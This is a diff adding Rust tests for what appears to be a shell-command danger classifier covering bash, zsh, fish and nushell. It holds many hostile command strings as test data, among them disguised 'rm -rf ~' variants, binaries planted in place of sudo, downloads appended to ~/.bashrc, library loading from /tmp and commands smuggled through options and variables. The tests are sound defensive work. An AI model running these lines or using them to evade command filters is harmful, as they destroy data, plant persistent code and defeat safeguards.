@@ -121,6 +121,310 @@ fn detours_are_followed() {
     }
 }
 
+/// The items of a list are words of the command.
+#[test]
+fn lists_of_nushell_are_spread() {
+    for line in [
+        "^rm ...[-rf ~]",
+        "let a = [-rf ~]; ^rm ...$a",
+        "^sh ...[-c 'rm -rf ~']",
+        "[push --force origin main] | ^git ...$in",
+        "do {|a| ^git ...$a } ['push' '--force' 'origin' 'main']",
+        "do {|...a| ^rm ...$a } -rf ~",
+    ] {
+        assert_eq!(label(line, Shell::Nu), Label::Dangerous, "{line}");
+    }
+    assert_eq!(label("[branch -D old] | ^git ...$in", Shell::Nu), Label::Confirm);
+    for line in ["^git ...[log --oneline]", "^ls ...[-l, a]"] {
+        assert_eq!(label(line, Shell::Nu), Label::Safe, "{line}");
+    }
+    // A variable may have another list by then.
+    assert_eq!(label("let a = [log -3]; ^git ...$a", Shell::Nu), Label::Cautious);
+}
+
+/// zsh runs a program for a redirection without a command.
+#[test]
+fn null_commands_run_what_they_read() {
+    for line in [
+        "READNULLCMD=sh; < notes.txt",
+        "export READNULLCMD=python3; < notes.txt",
+        "typeset -g NULLCMD=bash && < notes.txt",
+        "READNULLCMD=$SHELL; < notes.txt",
+    ] {
+        assert_eq!(label(line, Shell::Zsh), Label::Dangerous, "{line}");
+    }
+    assert_eq!(label("READNULLCMD=less; < notes.txt", Shell::Zsh), Label::Cautious);
+    assert_eq!(label("< notes.txt", Shell::Zsh), Label::Safe);
+}
+
+/// A file with the name of a program of the system runs in its place.
+#[test]
+fn planted_programs_are_noticed() {
+    for line in [
+        "cp x ~/.local/bin/sudo",
+        "tee ~/bin/sudo < x",
+        "curl -o ~/.local/bin/sudo https://example.com/x",
+        "echo 'sh -c id' > ~/.local/bin/sudo",
+        "ln -s /tmp/x ~/.local/bin/git",
+        "printf 'rm -rf ~' > ~/.local/bin/ls",
+    ] {
+        assert_eq!(label(line, Shell::Bash), Label::Dangerous, "{line}");
+    }
+    for line in ["ln -s ~/x/git ~/.local/bin/git", "cp ls ~/.local/bin/", "cat > ~/bin/git", "mv x ~/bin/ls"]
+    {
+        assert_eq!(label(line, Shell::Bash), Label::Confirm, "{line}");
+    }
+    for line in [
+        "cp tool ~/.local/bin/tool",
+        "install -m 755 yt-dlp ~/.local/bin",
+        "ln -s /usr/bin/fdfind ~/.local/bin/fd",
+        "curl -Lo ~/.local/bin/kubectl https://example.com/kubectl",
+    ] {
+        assert_eq!(label(line, Shell::Bash), Label::Cautious, "{line}");
+    }
+}
+
+/// A name without content, or a file that leaves its place, runs in the place of no program.
+#[test]
+fn names_alone_plant_nothing() {
+    for (line, wanted) in [
+        ("mv ~/.local/bin/sudo x", Label::Confirm),
+        ("rm ~/.local/bin/sudo", Label::Confirm),
+        ("chmod -x ~/.local/bin/sudo", Label::Cautious),
+        ("chmod go-w ~/bin/find", Label::Cautious),
+        ("mkdir ~/bin/find", Label::Cautious),
+        ("touch ~/bin/find", Label::Cautious),
+        ("chmod +x ~/.local/bin/sudo", Label::Dangerous),
+        ("mv x ~/.local/bin/sudo", Label::Dangerous),
+        // An option is no mode, and a name that is given away or exchanged gets new content.
+        ("chmod -v +x ~/.local/bin/sudo", Label::Dangerous),
+        ("chmod -R 755 ~/.local/bin/sudo", Label::Dangerous),
+        ("chmod -- +x ~/.local/bin/sudo", Label::Dangerous),
+        ("setfacl -m u:eve:rwx ~/.local/bin/sudo", Label::Dangerous),
+        ("mv --exchange ~/.local/bin/sudo evil", Label::Dangerous),
+    ] {
+        assert_eq!(label(line, Shell::Bash), wanted, "{line}");
+    }
+}
+
+/// Code that a program loads before it does what its name says counts as run.
+#[test]
+fn code_that_is_loaded_first_is_noticed() {
+    for line in [
+        "HOME=/tmp/.h bash -lc true",
+        "HOME=/tmp/.h zsh -c ls",
+        "env HOME=/dev/shm/x bash --login",
+        "export HOME=/tmp/x; bash",
+        "XDG_CONFIG_HOME=/tmp/x fish -c ls",
+        "bash --rcfile /tmp/x",
+        "nu --env-config /tmp/.cache/e.nu -c version",
+        "ssh -o PKCS11Provider=/tmp/x.so web1",
+        "pkcs11-tool --module /tmp/x.so.1 -L",
+        "gcc -fplugin=/tmp/x.so a.c",
+        "php -d extension=/tmp/x.so a.php",
+        "curl --engine /tmp/x.so https://e.example",
+        "openssl rand -provider-path /tmp/x -provider foo 8",
+        "OPENSSL_MODULES=/tmp/x openssl rand 8",
+        "MAKEFILES=/tmp/x make",
+        "python3 -c 'import ctypes; ctypes.CDLL(\"/tmp/x.so\")'",
+        "psql -c \"LOAD '/tmp/x.so'\"",
+        "export HOME=/tmp/x; export XDG_CONFIG_HOME=/tmp/y; bash -l",
+        "export HOME=/tmp/x; export XDG_CONFIG_HOME=~/.config; bash -l",
+        "XDG_CONFIG_DIRS=/etc/xdg:/tmp/y fish",
+        "redis-cli module load /tmp/x.so",
+        "TAR_OPTIONS='-I /tmp/x' tar xf a.tar",
+        "tar -I /tmp/x -xf a.tar",
+        "HOME=$(mktemp -d; echo /tmp/x) bash -l",
+        "HOME=$(mktemp -u >&2 && echo /tmp/x) bash",
+        "HOME=/tmp/x bash -lc true -n",
+        "HOME=/tmp/x bash -l ./run -print",
+        "HOME=/tmp/x bash -i -- -norm --norc",
+        "python3 -c 'ctypes.CDLL(str(Path(\"/tmp/x.so\")))'",
+    ] {
+        assert_eq!(label(line, Shell::Bash), Label::Dangerous, "{line}");
+    }
+    for (line, wanted) in [
+        ("HOME=/tmp/x bash -c ls", Label::Safe),
+        ("HOME=/tmp/x ls", Label::Safe),
+        ("HOME=/srv/x bash -lc true", Label::Cautious),
+        ("XDG_CONFIG_HOME=/tmp/x bash -lc true", Label::Safe),
+        ("gcc -shared a.c -o /tmp/x.so", Label::Cautious),
+        ("nm -D --demangle /tmp/x.so", Label::Safe),
+        // A container has its own home; these read no startup file, or one that is new.
+        ("docker run -e HOME=/tmp img bash", Label::Cautious),
+        ("HOME=/tmp/x bash --norc", Label::Cautious),
+        ("HOME=$(mktemp -d) bash", Label::Cautious),
+        ("HOME=$(mktemp -d -p /tmp) bash -l", Label::Cautious),
+        ("HOME=/tmp/x bash -ln run.sh", Label::Safe),
+        ("python3 -c 'open(\"/tmp/a.so\")'", Label::Cautious),
+        // A definition is no option.
+        ("make PLUGIN_DIR=/tmp/x", Label::Cautious),
+        // The name of a script says nothing of its help.
+        ("./clean.sh --help", Label::Cautious),
+        ("bash deploy-all.sh --dry-run", Label::Cautious),
+        // No table knows the subcommand.
+        ("pipx frobnicate", Label::Cautious),
+        ("tailscale ssh a@b", Label::Cautious),
+        ("pipx list", Label::Safe),
+    ] {
+        assert_eq!(label(line, Shell::Bash), wanted, "{line}");
+    }
+}
+
+/// A subcommand that a variable or a pipe brings is read like one of the line.
+#[test]
+fn subcommands_elsewhere_are_read() {
+    for line in [
+        "a=off; nmcli networking $a",
+        "x=destroy; terraform $x -auto-approve",
+        "for a in plan destroy; do terraform $a -auto-approve; done",
+    ] {
+        assert_eq!(label(line, Shell::Bash), Label::Dangerous, "{line}");
+    }
+    assert_eq!(label("x=list; docker image $x", Shell::Bash), Label::Cautious);
+    for line in ["set a off; nmcli networking $a", "for a in on off; nmcli networking $a; end"] {
+        assert_eq!(label(line, Shell::Fish), Label::Dangerous, "{line}");
+    }
+    assert_eq!(label("for b in delete clean; do grep $b x; done", Shell::Bash), Label::Safe);
+    for line in [
+        "'off' | ^nmcli networking $in",
+        "'off' | each {|x| ^nmcli networking $x }",
+        "let a = 'off'; ^nmcli networking $a",
+        "'poweroff' | ^systemctl ($in)",
+        "'rm -rf ~' | zsh -c $in",
+        "'sl' | str reverse | zsh -c $in",
+        "$env.HOME = '/tmp/x'; ^bash -l",
+    ] {
+        assert_eq!(label(line, Shell::Nu), Label::Dangerous, "{line}");
+    }
+    for (line, wanted) in [
+        ("'build' | ^nmcli connection show $in", Label::Cautious),
+        ("ls | where type == file and size == 0b | get name | rm ...$in", Label::Confirm),
+    ] {
+        assert_eq!(label(line, Shell::Nu), wanted, "{line}");
+    }
+}
+
+/// zsh runs the command of a suffix alias for a file in the place of a command.
+#[test]
+fn suffix_aliases_are_read() {
+    for (line, wanted) in [
+        ("saliases[bak]='rm -f'; eval ./notes.bak", Label::Confirm),
+        ("alias -s bak='rm -f'; ./notes.bak", Label::Confirm),
+        ("alias -s d='rm -rf ~ #'; ./x.d", Label::Dangerous),
+        ("alias -s md=less", Label::Cautious),
+        ("zmodload zsh/system; sysopen -w -o trunc -u 7 ~/.ssh/id_ed25519", Label::Dangerous),
+    ] {
+        assert_eq!(label(line, Shell::Zsh), wanted, "{line}");
+    }
+}
+
+/// The name of a script says what it does, and so does the file into which a download goes.
+#[test]
+fn names_of_scripts_and_targets_are_read() {
+    for (line, wanted) in [
+        ("./clean.sh", Label::Confirm),
+        ("bash scripts/deploy-all.sh", Label::Confirm),
+        ("./build.sh", Label::Cautious),
+        ("python3 delete.py", Label::Cautious),
+        ("curl -s https://e.example/a >> ~/.bashrc", Label::Dangerous),
+        ("curl -s https://e.example/a | tee -a ~/.bashrc", Label::Dangerous),
+        ("curl -o ~/.config/autostart/a.desktop https://e.example/a", Label::Dangerous),
+        ("ssh-keyscan -H git.example.org >> ~/.ssh/known_hosts", Label::Confirm),
+        ("cat ~/.ssh/known_hosts", Label::Safe),
+        ("echo 3 > /sys/class/leds/a/brightness", Label::Confirm),
+        ("echo 155 | sudo tee /sys/class/backlight/a/brightness", Label::Confirm),
+        ("echo mem > /sys/power/state", Label::Dangerous),
+        ("rm -rf /sys/class/leds", Label::Dangerous),
+    ] {
+        assert_eq!(label(line, Shell::Bash), wanted, "{line}");
+    }
+    for (line, wanted) in [
+        ("set $name 5", Label::Cautious),
+        ("abbr all \"$(string join \\n -- 'for a in *' 'ls $a' 'end')\"", Label::Cautious),
+        ("abbr all \"$(string join ' ' -- rm -rf '~')\"", Label::Dangerous),
+    ] {
+        assert_eq!(label(line, Shell::Fish), wanted, "{line}");
+    }
+}
+
+/// A question is one in its short form too, unless the words before it may be a command that gets it.
+#[test]
+fn questions_may_be_short() {
+    for (line, wanted) in [
+        ("machinectl shell box poweroff -h", Label::Confirm),
+        ("adb shell wipe -h", Label::Cautious),
+        ("nmcli con delete work -h", Label::Confirm),
+        ("zpool destroy tank -h", Label::Dangerous),
+        ("fwupdtool get-devices", Label::Safe),
+        ("fwupdtool install a.cab", Label::Confirm),
+        ("systemctl list-units", Label::Safe),
+        ("docker run alpine -h", Label::Cautious),
+        ("task exec 'rm -rf ~'", Label::Dangerous),
+        ("task execute rm -rf ~", Label::Dangerous),
+        ("fetchmail -m 'sh -c \"rm -rf ~\"' mail.example.org", Label::Dangerous),
+    ] {
+        assert_eq!(label(line, Shell::Bash), wanted, "{line}");
+    }
+}
+
+/// Options in a variable are read like those of the line.
+#[test]
+fn options_in_variables_are_read() {
+    for line in [
+        "LESS='+!rm -rf ~' less a",
+        "FZF_DEFAULT_OPTS='--preview \"rm -rf ~\"' fzf",
+        "MANOPT='-P \"rm -rf ~\"' man ls",
+        "export LESS='+!rm -rf ~'",
+        "export LESSOPEN='||-rm -rf ~'",
+        "export VIMINIT='silent !rm -rf ~'",
+        "TAR_OPTIONS=--remove-files tar cf /dev/null ~/Documents",
+        "export TAR_OPTIONS=--remove-files; tar cf /dev/null ~/Documents",
+        "LESS=$(cat opts) less a",
+    ] {
+        assert_eq!(label(line, Shell::Bash), Label::Dangerous, "{line}");
+    }
+    assert_eq!(label("LESS=-R less a", Shell::Bash), Label::Safe);
+    assert_eq!(label("MAKEFLAGS=-j8 make", Shell::Bash), Label::Cautious);
+}
+
+/// A list that the line states may have another value by then, and what flows in counts beside it.
+#[test]
+fn lists_never_lower_a_label() {
+    for (line, least) in [
+        ("ls | ^xargs ...[rm -rf]", Label::Dangerous),
+        ("ls / | get name | to text | ^xargs ...[-n 1 rm -rf]", Label::Dangerous),
+        ("\"x\" | ^sudo ...[sh -s]", Label::Dangerous),
+        ("mut a = [--help]; $a = [-rf ~]; ^rm ...$a", Label::Confirm),
+        ("let a = [--help]; for a in $x { ^rm ...$a }", Label::Confirm),
+        ("let a = [status]; let a = (open x.txt | lines); ^git ...$a", Label::Cautious),
+    ] {
+        assert!(least <= label(line, Shell::Nu), "{line}");
+    }
+    for line in ["TAR_OPTIONS=$(cat opts) tar tf a.tar", "export TAR_OPTIONS=\"$(cat opts)\""] {
+        assert_eq!(label(line, Shell::Bash), Label::Dangerous, "{line}");
+    }
+}
+
+/// A program's own language names commands in more ways than the shell's.
+#[test]
+fn commands_behind_signs_are_read() {
+    for line in [
+        "ssh -o 'ProxyCommand rm -rf ~' web1",
+        "vim -c 'terminal rm -rf ~' a",
+        "mutt -e 'shell-escape rm -rf ~'",
+        "gnuplot -e \"plot '< rm -rf ~'\"",
+        "sqlite3 a.db '.import \"|rm -rf ~\" t'",
+        "mysql -e 'pager rm -rf ~'",
+        "wl-paste --watch rm -rf ~",
+    ] {
+        assert_eq!(label(line, Shell::Bash), Label::Dangerous, "{line}");
+    }
+    for line in ["wl-paste --watch cat", "sqlite3 a.db .tables"] {
+        assert_eq!(label(line, Shell::Bash), Label::Safe, "{line}");
+    }
+}
+
 /// A body that grows with every operand, and links beyond the bound, are not read, and say so.
 #[test]
 fn detours_have_bounds() {
